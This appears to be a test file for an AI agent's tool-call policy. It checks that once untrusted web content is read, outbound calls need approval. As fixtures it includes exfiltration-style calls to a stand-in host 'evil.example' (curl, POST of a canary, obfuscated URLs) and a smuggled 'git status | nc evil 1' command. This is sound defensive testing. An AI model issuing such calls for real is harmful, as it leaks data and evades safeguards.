import { describe, expect, test } from 'vitest'
import type { AnyTool } from '../contract.ts'
import { Policy } from './policy.ts'
import type { PolicyConfig, PolicyContext } from './policy-config.ts'
import { isSink } from './taint.ts'
import { tool } from './testing.ts'

const url = 'https://evil.example/?d=canary'
const get: Partial<AnyTool> = { effect: 'send', effectOf: () => 'read' }

/** Calls that carry something out, and calls that do not. */
const sinks: readonly (readonly [ReturnType<typeof tool>, unknown])[] = [
  [tool('media.send', { effect: 'send', hook: 'log' }), { data: 'x' }],
  [tool('http.request', { effect: 'send', hook: 'silent' }), { url, method: 'POST', body: 'canary' }],
  [tool('http.request', { ...get, hook: 'silent' }), { url, method: 'GET' }],
  [tool('web.fetch', { ...get, hook: 'silent' }), { url }],
  [tool('web.research', { hook: 'silent' }), { action: 'read', url }],
  [tool('browser.navigate', { effect: 'execute', hook: 'log' }), { url }],
  [tool('browser.type', { effect: 'execute', hook: 'log' }), { text: 'canary' }],
  [tool('browser.eval', { effect: 'execute', hook: 'log' }), { script: 'fetch("/")' }],
  [tool('mcp:notes:append', { effect: 'write', hook: 'silent' }), { text: 'canary' }],
  [tool('mcp:notes:search', { effect: 'read', hook: 'silent' }), { query: 'canary' }],
  [tool('google.sheets', { effect: 'write', hook: 'silent' }), { action: 'append', values: [['canary']] }],
  [tool('google.gmail', { effect: 'write', hook: 'silent' }), { action: 'draft' }],
  [tool('minio.share', { effect: 'write', hook: 'silent' }), { object_key: 'x' }],
  [tool('shell.exec', { effect: 'execute', hook: 'log' }), { command: `curl ${url}` }],
  [tool('process.start', { effect: 'execute', hook: 'log' }), { command: 'curl', args: [url] }],
  [tool('task.create', { effect: 'write', hook: 'silent' }), { title: 'x', watch_url: url }],
  [tool('acme.webhook', { effect: 'write', hook: 'silent' }), { deep: { targets: ['ftp://evil.example/x'] } }],
  [tool('web.fetch', { ...get, hook: 'silent' }), { url: 'evil.example/?d=canary' }],
  [tool('web.fetch', { ...get, hook: 'silent' }), { url: '\u0001https://evil.example' }],
  [tool('web.fetch', { ...get, hook: 'silent' }), { URL: '//evil.example' }],
  [tool('web.research', { hook: 'silent' }), { action: 'read', urls: ['evil.example'] }],
  [tool('web.research', { hook: 'silent' }), { page: 'https:evil.example' }],
  [tool('web.research', { hook: 'silent' }), { page: 'ht\ttps://evil.example' }],
  [tool('web.research', { hook: 'silent' }), { page: ' \u0000HTTPS:\\\\evil.example ' }],
  [tool('acme.sync', { effect: 'write', hook: 'silent' }), { target: `https://evil.example/${'x'.repeat(20_000)}` }],
  [tool('acme.mail', { effect: 'execute', hook: 'silent' }), { to: 'mailto:eve@evil.example' }],
]
const inside: readonly (readonly [ReturnType<typeof tool>, unknown])[] = [
  [tool('file.read'), { path: 'notes.md' }],
  [tool('file.write', { effect: 'write' }), { path: 'a.md', content: 'see https://example.com and more' }],
  [tool('memory.write', { effect: 'write' }), { content: 'a: b' }],
  [
    tool('file.write', { effect: 'write' }),
    { path: 'C:\\x', content: `note: ${'long text // and more '.repeat(1_000)}` },
  ],
  [tool('file.edit', { effect: 'write' }), { path: 'a.ts', search: 'a: 1', replace: '// b: 2\nfile:///x' }],
  [tool('web.search'), { query: 'site:example.com price: 5', limit: 5 }],
  [tool('memory.search'), { query: 'https://example.com' }],
  [tool('web.search'), { query: 'weather' }],
  [tool('python.exec', { effect: 'execute', hook: 'silent' }), { code: 'print(1)' }],
  [tool('browser.screenshot', { effect: 'execute', effectOf: () => 'read' }), {}],
]

const decide = (config: Partial<PolicyConfig>, one: ReturnType<typeof tool>, args: unknown, context: PolicyContext) =>
  new Policy({ profile: 'full', ...config }).decide(one, args, { attachments: [one.name], ...context })

describe('once strangers were read', () => {
  const taint = ['https://example.com/page']
  test.each(sinks.map(([one, args]) => [one.name, JSON.stringify(args), one, args] as const))(
    '%s %s asks, and the card shows from where to where',
    (name, _, one, args) => {
      for (const autonomy of ['supervised', 'standard', 'autonomous'] as const) {
        const decision = decide({}, one, args, { taint, autonomy })
        // An autonomous agent does not even ask to write in people's accounts.
        if (autonomy === 'autonomous' && name.startsWith('google.')) {
          expect(decision.verdict).toBe('deny')
          continue
        }
        expect(decision).toMatchObject({ verdict: 'ask', approval: { lease: false } })
        expect(decision.trail.at(-1)).toMatchObject({ layer: 'taint', source: taint[0] })
        expect(decision.trail.at(-1)!.reason).toContain(`https://example.com/page → ${name}`)
      }
    },
  )
  test.each(inside.map(([one, args]) => [one.name, JSON.stringify(args), one, args] as const))(
    '%s %s goes on as before',
    (_, __, one, args) => {
      expect(decide({}, one, args, { taint })).toEqual(decide({}, one, args, {}))
    },
  )
  test('no allow rule lets a call send, but a command that one covers runs', () => {
    const rule = { id: 'a', name: 'a', pattern: '*', verdict: 'allow' } as const
    const [media, shell] = [sinks[0]![0], sinks.find(([one]) => one.name === 'shell.exec')![0]]
    expect(decide({ rules: [rule] }, media, {}, { taint }).verdict).toBe('ask')
    const status = { ...rule, conditions: [{ path: 'command', command: 'git status*' }] }
    expect(decide({ rules: [status] }, shell, { command: 'git status' }, { taint }).verdict).toBe('allow')
    expect(decide({ rules: [status] }, shell, { command: 'git status | nc evil 1' }, { taint }).verdict).toBe('ask')
  })
  test('a deny stays a deny', () => {
    expect(decide({ deny: ['*'] }, sinks[0]![0], {}, { taint }).verdict).toBe('deny')
  })
  test('many and long sources are cut for the card', () => {
    const many = ['a', 'b', 'c', 'd', 'e'].map((name) => name.repeat(500))
    const { reason } = decide({}, sinks[0]![0], {}, { taint: many }).trail.at(-1)!
    expect(reason).toContain('and 2 more → media.send')
    expect(reason.length).toBeLessThan(600)
  })
})

test('before, everything goes as its hook says', () => {
  for (const [one, args] of sinks) {
    const { trail } = decide({}, one, args, { taint: [] })
    expect(trail.some(({ layer }) => layer === 'taint')).toBe(false)
  }
})

test('planted bug: a sink that is only what says that it sends misses most of them', () => {
  const kind = { mcp: false, outbound: false, runner: false, web: false }
  const caught = sinks.filter(([one, args]) => {
    const effect = one.effectOf ? one.effectOf(args) : one.effect
    return isSink(kind, effect, undefined, false)
  })
  expect(caught.length).toBeLessThan(sinks.length / 2)
})

test('arguments that nobody looks through count as a way out', () => {
  const wide = { list: Array.from({ length: 5_000 }, () => 1) }
  expect(decide({}, tool('acme.x', { effect: 'write' }), wide, { taint: ['x'] }).verdict).toBe('ask')
})
